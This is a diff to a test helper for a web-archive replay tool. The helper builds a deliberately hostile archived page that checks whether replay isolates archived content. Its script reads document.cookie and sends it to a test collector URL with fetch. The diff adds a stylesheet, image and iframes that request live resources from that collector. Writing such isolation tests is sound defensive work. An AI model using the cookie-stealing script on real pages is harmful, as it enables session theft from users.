@@ -64,11 +64,17 @@ def wait_past(moment: str) -> None:
         time.sleep(0.05)
 
 
-def hostile_html(collector: str) -> bytes:
-    """A page whose script tries everything an archived page must not do to the app."""
-    return f"""<!doctype html><html><head><title>Hostile page</title></head><body>
+def hostile_html(collector: str, archived_home: str) -> bytes:
+    """A page whose script tries everything an archived page must not do to the app, and whose
+    markup asks for live resources (a replay must never reach the live web: it would show today's
+    content as archived and tell the outlet who is reading)."""
+    return f"""<!doctype html><html><head><title>Hostile page</title>
+<link rel="stylesheet" href="{collector}/live.css"></head><body>
 <h1 id="headline">An archived page with a hostile script</h1>
 <p>Body text of the hostile page.</p>
+<p><img alt="" src="{collector}/live-image.png"></p>
+<iframe src="{collector}/live-frame"></iframe>
+<iframe id="from-archive" src="/demo/2id_/{archived_home}"></iframe>
 <script>
 var stolen = document.cookie;
 fetch("{collector}/cookie?c=" + encodeURIComponent(stolen), {{mode: "no-cors"}}).catch(function () {{}});
@@ -87,7 +93,7 @@ document.getElementById("headline").textContent = "SCRIPT RAN";
 def archive_hostile_page(config: Config, sim: SimulatedOutlet, collector: str) -> str:
     """Write the hostile page to a WARC in the spool, then store, index and detect it as a crawl's."""
     url = f"{sim.base_url('www.presstv.ir')}/Detail/2026/11/25/{HOSTILE_ID}/hostile-page"
-    body = hostile_html(collector)
+    body = hostile_html(collector, sim.base_url("www.presstv.ir") + "/")
     request = HttpRequestData("GET", url, (("Host", f"www.presstv.ir:{sim.port}"),))
     response = HttpResponseData(
         200,
